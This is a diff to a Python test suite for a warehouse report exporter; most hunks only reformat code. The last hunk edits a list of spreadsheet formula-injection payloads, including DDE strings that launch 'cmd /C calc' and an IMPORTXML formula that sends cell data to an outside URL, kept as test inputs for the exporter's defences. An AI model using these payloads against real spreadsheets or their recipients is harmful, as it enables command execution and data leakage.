@@ -163,7 +163,10 @@ def test_a_refused_account_is_tried_again_and_goes_out_when_it_is_corrected(
 
 def test_only_accounts_that_changed_go_out_again(warehouse: Path, out: Path) -> None:
     small_mart.fill(warehouse, 9)
-    assert [report.rows for report in export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)] == [9, 9]
+    assert [report.rows for report in export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)] == [
+        9,
+        9,
+    ]
     acknowledge(warehouse, "r1", by="me")
     tomorrow = DAY + timedelta(days=1)
     small_mart.fill(warehouse, 9, day=tomorrow)
@@ -201,7 +204,8 @@ def test_a_run_that_is_repeated_writes_the_same_bytes_and_records_once(warehouse
     acknowledge(warehouse, "r1", by="me")
     change(warehouse, "update marts.rpt_account_health set score = 12 where account_id = 'a000004'")
     first = {
-        report.folder: content(report.folder) for report in export(warehouse, out, run_id="r2", as_of=DAY, profiles=NAMES)
+        report.folder: content(report.folder)
+        for report in export(warehouse, out, run_id="r2", as_of=DAY, profiles=NAMES)
     }
     state = "select * from audit.sync_state order by all"
     before = recorded(warehouse, state)
@@ -220,7 +224,7 @@ def test_a_run_that_died_before_it_was_recorded_goes_out_again(
 ) -> None:
     small_mart.fill(warehouse, 9)
     with monkeypatch.context() as patch:
-        patch.setattr(writer, "_record", lambda *_: os._exit(9))
+        patch.setattr(writer, "_record", lambda *_, **__: os._exit(9))
         if (pid := os.fork()) == 0:
             export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])
         assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 9
@@ -327,9 +331,13 @@ def test_a_full_disk_is_named_and_leaves_nothing(
 
 
 INJECTIONS = [
-    *(f"{start}{rest}" for start in "=+-@" for rest in ("1+1", "cmd|' /C calc'!A0", "SUM(1,2)", 'HYPERLINK("x")')),
+    *(
+        f"{start}{rest}"
+        for start in "=+-@"
+        for rest in ("1+1", "cmd|' /C calc'!A0", "SUM(1,2)", 'HYPERLINK("x")')
+    ),
     '=IMPORTXML("http://example.com/?v="&A1,"//a")',
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=DDE("cmd";"/C calc";"x")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
